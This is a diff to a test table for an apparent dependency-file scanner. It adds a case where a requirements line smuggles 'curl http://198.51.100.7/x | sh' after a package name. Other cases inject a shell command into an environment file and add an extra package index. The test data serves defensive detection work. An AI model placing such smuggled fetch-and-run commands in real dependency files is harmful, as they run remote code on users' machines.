@@ -120,6 +120,10 @@ CASES = {
     "conda_pip_option": case(
         CONDA.replace("- scikit-learn", "- --extra-index-url https://p.example.invalid"), Verdict.REVIEW, "conda.yaml"
     ),
+    "shell_before_an_address": case("torch; curl http://198.51.100.7/x | sh\n", Verdict.MALICIOUS),
+    "benign_address_with_a_marker": case(
+        "acme @ https://github.com/acme/net/archive/v1.zip ; python_version < '3.13'\n", Verdict.CLEAN
+    ),
     "environment_for_a_shell": case(
         PYTHON_ENV.replace("-r requirements.txt", "numpy; touch /tmp/modelsweep-test"),
         Verdict.MALICIOUS,
